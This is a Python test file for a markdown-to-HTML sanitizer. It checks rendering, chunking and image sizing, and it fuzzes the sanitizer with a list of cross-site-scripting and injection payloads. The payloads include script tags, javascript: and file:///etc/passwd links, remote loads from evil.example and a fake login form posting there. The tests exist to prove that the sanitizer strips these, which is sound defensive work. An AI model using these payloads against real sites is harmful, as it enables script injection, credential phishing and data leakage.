"""What strangers write must neither run, load, ask nor break the layout; what they mean must survive."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modstead.ui.markdown import CHUNK, MAX_SOURCE, rendered, to_html

HARMLESS = """a abbr b blockquote br center cite code dd del dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li
    mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var"""
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://a.example/b.png" onerror="alert(1)" style="position:fixed">',
    '<img src="javascript:alert(1)">',
    '<img src="file:///etc/passwd">',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="qrc:/icons/x.svg">',
    '<img src="//evil.example/x.png">',
    '<img src="C:\\\\Windows\\\\x.png">',
    '<img srcset="file:///etc/passwd 1x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank" download>x</a>',
    "[x](javascript:alert(1))",
    "[x](file:///etc/passwd)",
    "![x](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>* { background: url(file:///etc/passwd) }</style>",
    '<p style="background: url(https://evil.example/track.png)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    "<textarea>x</textarea><select><option>y</option></select>",
    '<svg onload="alert(1)"><image href="file:///etc/passwd"/><script>alert(1)</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<video src="https://evil.example/x.mp4" autoplay></video><audio src="x"></audio>',
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('x') ?>",
    '<table background="https://evil.example/track.png"><tr><td bgcolor="red" background="x">y</td></tr></table>',
    '<div class="code" id="x">y</div><td class="bar">z</td>',
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
]


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(html: str) -> None:
    for tag, attributes in _Tags(html).found:
        assert tag in HARMLESS.split(), tag
        allowed = {"href", "src", "alt", "title", "width", "height", "align", "start", "colspan", "rowspan"}
        assert set(attributes) <= allowed, (tag, attributes)
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"], re.IGNORECASE), attributes
        if "src" in attributes:
            assert re.match(r"https?://", attributes["src"], re.IGNORECASE), attributes


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_survives(source: str) -> None:
    for text in (
        source,
        f"before {source} after",
        f"> {source}\n",
        f"| a |\n| - |\n| {source} |",
        f"- {source}",
    ):
        assert_harmless(to_html(text))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n\n", "> ", "- ", "`", "<div>", "</p>", '"', "<", "word"]), max_size=12
    )
)
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_hostile_parts_survives(parts: list[str]) -> None:
    assert_harmless(to_html("".join(parts)))


@given(st.text(max_size=400))
@settings(max_examples=150, deadline=None)
def test_any_text_renders_to_something_harmless(text: str) -> None:
    assert_harmless(to_html(text))
    rendered(text)


@pytest.mark.parametrize("source", HOSTILE)
def test_pieces_only_carry_trusted_classes(source: str) -> None:
    for chunk in rendered(source).chunks:
        for tag, attributes in _Tags(chunk).found:
            assert tag not in {"script", "style", "iframe", "form", "input", "svg", "object", "link", "meta"}
            assert not any(name.startswith("on") or name in {"style", "id"} for name in attributes)
            assert attributes.get("class", "") in {
                "",
                "quote",
                "bar",
                "quoted",
                "code",
                "h1",
                "h2",
                "h3",
                "h4",
                "h5",
                "h6",
            }


def test_scripts_and_styles_go_with_what_is_in_them() -> None:
    html = to_html("a <script>alert(1)</script> b <style>p {}</style> c")
    assert "alert" not in html
    assert "p {}" not in html
    assert "a" in html
    assert "c" in html


def test_an_input_that_is_a_task_becomes_a_mark_and_any_other_goes() -> None:
    html = to_html("- [x] done\n- [ ] open\n\n<input type='text' value='type here'>")
    assert "☑" in html
    assert "☐" in html
    assert "<input" not in html


def test_github_markdown_is_understood() -> None:
    html = to_html("| a | b |\n| :-: | --: |\n| 1 | 2 |\n\n~~old~~ https://example.org/page")
    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "<s>old</s>" in html
    assert '<a href="https://example.org/page">' in html


def test_html_within_markdown_keeps_its_meaning() -> None:
    html = to_html('<p align="center"><b>Hello</b></p>\n\n<center>\n\n**inside**\n\n</center>')
    assert '<p align="center"><b>Hello</b></p>' in html
    assert re.search(r"<center>\s*<p><strong>inside</strong></p>\s*</center>", html)


def test_a_fold_shows_what_is_in_it_under_its_summary() -> None:
    html = to_html("<details><summary>More</summary>\n\nHidden **words**\n\n</details>")
    assert "<p><b>More</b></p>" in html
    assert "<strong>words</strong>" in html


def test_pictures_keep_one_sensible_measure() -> None:
    text = rendered(
        '<img src="https://a.example/1.png" width="5000" height="30">\n'
        '<img src="https://a.example/2.png" width="200" height="900">\n'
        '<img src="https://a.example/3.png" width="100%">\n'
        '<img alt="nothing & more">'
    )
    html = "".join(text.chunks)
    assert '<img src="https://a.example/1.png" height="30">' in html
    assert '<img src="https://a.example/2.png" width="200">' in html
    assert '<img src="https://a.example/3.png">' in html
    assert "nothing &amp; more" in html
    assert text.images == tuple(f"https://a.example/{number}.png" for number in (1, 2, 3))


def test_addresses_with_ampersands_survive_the_way_through() -> None:
    text = rendered("![x](https://a.example/p.png?a=1&b=2)")
    assert text.images == ("https://a.example/p.png?a=1&b=2",)
    assert "https://a.example/p.png?a=1&amp;b=2" in text.chunks[0]


def test_long_bodies_are_cut_into_well_formed_pieces() -> None:
    source = "\n\n".join(f"## Part {number}\n\nSome **bold** words.\n\n- one\n- two" for number in range(400))
    text = rendered(source)
    assert len(text.chunks) > 5
    assert max(map(len, text.chunks)) < 2 * CHUNK
    assert all(_is_balanced(chunk) for chunk in text.chunks)
    joined = re.sub(r"<[^>]+>", "", "".join(text.chunks))
    assert all(f"Part {number}" in joined for number in range(400))


def test_a_wrapper_around_everything_is_opened_again_in_each_piece() -> None:
    source = (
        '<div align="center">\n\n'
        + "\n\n".join(f"Words {number} " * 20 for number in range(100))
        + "\n\n</div>"
    )
    text = rendered(source)
    assert len(text.chunks) > 3
    assert all(chunk.startswith('<div align="center">') for chunk in text.chunks)
    assert all(_is_balanced(chunk) for chunk in text.chunks)


def test_quotes_and_code_get_a_ground_of_their_own() -> None:
    html = "".join(rendered("> said\n\n```\nx < 1\n```").chunks)
    assert '<td class="quoted">' in html
    assert '<td class="code"><pre><code>x &lt; 1</code></pre></td>' in html


def test_what_is_too_long_is_cut_and_says_so() -> None:
    text = rendered("word " * (MAX_SOURCE // 4))
    assert text.cut
    assert not rendered("short").cut


def test_nothing_is_nothing() -> None:
    assert rendered("").chunks == ()
    assert rendered("\0\n\n").chunks == ()


def test_deep_nesting_does_no_harm() -> None:
    assert_harmless(to_html(">" * 5000 + " x"))
    assert_harmless(to_html("<div>" * 3000 + "x"))
    rendered("- " * 2000 + "x")


def _is_balanced(html: str) -> bool:
    open_tags: list[str] = []
    for closing, tag in re.findall(r"<(/?)([a-z0-9]+)", html):
        if tag in {"br", "hr", "img"}:
            continue
        if not closing:
            open_tags.append(tag)
        elif not open_tags or open_tags.pop() != tag:
            return False
    return not open_tags
